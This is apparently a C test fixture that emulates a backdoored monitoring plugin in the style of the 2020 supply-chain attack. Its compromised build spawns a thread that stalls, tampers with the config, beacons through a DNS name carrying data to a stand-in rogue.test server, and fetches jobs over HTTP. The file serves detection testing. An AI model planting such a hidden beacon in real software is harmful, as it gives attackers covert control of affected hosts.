/* SPDX-License-Identifier: Apache-2.0
 *
 * liborion_bl.so: the business layer plugin of a monitoring host. The healthy twin reads its
 * configuration and sends telemetry to its vendor, whose name it looks up. The compromised one does
 * the same, and from the thread of its refresh has the shape of 2020's: looks at its own file, keeps
 * its state in the configuration, waits, looks up the vendor and then a name that carries data in
 * its first label, and fetches jobs from where the answer says.
 */
#include <arpa/nameser.h>
#include <pthread.h>
#include <resolv.h>

#include "twin.h"

int orion_refresh(const char *directory);

/* Asks the scenario's name server, through libc's resolver as in the field. 0, or -1. */
static int orion_look_up(const char *name)
{
	struct __res_state state;
	unsigned char answer[512];
	int got;

	memset(&state, 0, sizeof(state));
	if (res_ninit(&state))
		return -1;
	state.nscount = 1;
	state.retry = 1;
	state.retrans = 1;
	state.nsaddr_list[0].sin_family = AF_INET;
	state.nsaddr_list[0].sin_port = htons((unsigned short)atoi(twin_variable("DNS_PORT")));
	inet_pton(AF_INET, TWIN_ROGUE_DNS, &state.nsaddr_list[0].sin_addr);
	got = res_nquery(&state, name, ns_c_in, ns_t_a, answer, sizeof(answer));
	res_nclose(&state);
	return got < 0 ? -1 : 0;
}

#ifdef COMPROMISED
static void *planted_run(void *directory)
{
	struct stat own;
	char path[512];

	snprintf(path, sizeof(path), "%s/liborion_bl.so", (const char *)directory);
	if (stat(path, &own))
		return NULL;
	twin_sleep_ms(50); /* 12 to 14 days, in the field */
	snprintf(path, sizeof(path), "%s/bl.config", (const char *)directory);
	twin_write(path, "ReportWatcherRetry=4\n", 0644);
	orion_look_up("api.vendor.test");
	if (orion_look_up("k3j9dummy7f2q.appsync-api.eu-west-1.rogue.test"))
		return NULL;
	twin_http(TWIN_ROGUE, "GET", "/swip/Events", "");
	twin_http(TWIN_ROGUE, "PUT", "/swip/Events", "{\"steps\":[\"DUMMY\"]}");
	return NULL;
}
#endif

int orion_refresh(const char *directory)
{
	char path[512], line[128];
	FILE *config;

	snprintf(path, sizeof(path), "%s/bl.config", directory);
	config = fopen(path, "r");
	if (!config || !fgets(line, sizeof(line), config))
		return -1;
	fclose(config);
	if (orion_look_up("api.vendor.test") || twin_http(TWIN_VENDOR, "POST", "/oip", "telemetry"))
		return -1;
#ifdef COMPROMISED
	pthread_t thread;

	if (!pthread_create(&thread, NULL, planted_run, (void *)directory))
		pthread_join(thread, NULL);
#endif
	return 0;
}
